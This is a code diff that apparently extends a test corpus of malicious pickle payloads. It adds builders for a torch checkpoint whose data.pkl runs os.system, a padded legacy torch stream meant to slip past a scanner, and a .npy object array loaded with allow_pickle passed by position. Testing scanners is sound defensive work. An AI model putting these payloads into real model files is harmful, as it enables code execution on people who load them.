@@ -174,6 +174,52 @@ def _frame_desync_next_load(canary: Canary) -> bytes:
             + _os_system_pickle(canary))
 
 
+def _torch_zip_bytes(canary: Canary) -> bytes:
+    """A ``torch.save`` zip whose ``data.pkl`` is the payload (what _load_from_bytes reads)."""
+    import io
+    import zipfile
+
+    import torch
+
+    genuine = io.BytesIO()
+    torch.save({"weight": torch.ones(2)}, genuine)
+    out = io.BytesIO()
+    with zipfile.ZipFile(genuine) as source, zipfile.ZipFile(out, "w") as archive:
+        for info in source.infolist():
+            data = source.read(info)
+            archive.writestr(info.filename, _os_system_pickle(canary)
+                             if info.filename.endswith("/data.pkl") else data)
+    return out.getvalue()
+
+
+def _load_from_bytes_zip(canary: Canary) -> bytes:
+    """``pickle.dumps(tensor)``'s own call, on a checkpoint whose data.pkl is the payload."""
+    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
+                         (_torch_zip_bytes(canary),)), 4)
+
+
+def _load_from_bytes_legacy(canary: Canary) -> bytes:
+    """Protocol 2: the bytes are ``_codecs.encode(text, 'latin1')``; torch.load reads a
+    non-zip stream as a legacy checkpoint, whose first pickle is the payload."""
+    padding = b"\x80\x02N0" + b"N0" * 400  # long enough to be a string the scan skips
+    return assemble(Call(Global("torch.storage", "_load_from_bytes"),
+                         (padding + _os_system_pickle(canary)[2:],)), 2)
+
+
+def _npy_object_array(canary: Canary) -> bytes:
+    """A ``.npy`` of an object array: numpy.load(allow_pickle=True) unpickles what follows."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header = header.ljust(64 - 10 - 1) + "\n"
+    return (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1")
+            + _os_system_pickle(canary))
+
+
+def _numpy_load_embedded(canary: Canary) -> bytes:
+    """numpy.load(io.BytesIO(npy), None, True): allow_pickle given by position."""
+    return assemble(Call(Global("numpy", "load"), (
+        Call(Global("_io", "BytesIO"), (_npy_object_array(canary),)), None, True)), 3)
+
+
 PAYLOADS: list[PicklePayload] = [
     PicklePayload("os-system-proto0", "GLOBAL os.system + REDUCE, text protocol 0",
                   lambda c: assemble(Call(Global("os", "system"), (c.shell,)), protocol=0)),
@@ -262,6 +308,12 @@ PAYLOADS: list[PicklePayload] = [
     PicklePayload("torch-load-nested", "torch.load(io.BytesIO(inner malicious pickle))",
                   lambda c: assemble(Call(Global("torch", "load"), (
                       Call(Global("io", "BytesIO"), (_os_system_pickle(c),)),)), 3)),
+    PicklePayload("load-from-bytes-zip", "torch.storage._load_from_bytes of a checkpoint "
+                  "whose data.pkl is the payload", _load_from_bytes_zip),
+    PicklePayload("load-from-bytes-legacy", "_load_from_bytes(_codecs.encode(text)) of a "
+                  "legacy stream led by the payload (protocol 2)", _load_from_bytes_legacy),
+    PicklePayload("numpy-load-embedded", "numpy.load(BytesIO(.npy object array), None, True)",
+                  _numpy_load_embedded),
     PicklePayload("numpy-testing-runstring", "numpy.testing._private.utils.runstring",
                   lambda c: assemble(Call(Global("numpy.testing._private.utils", "runstring"),
                                           (c.python, {})), 2)),
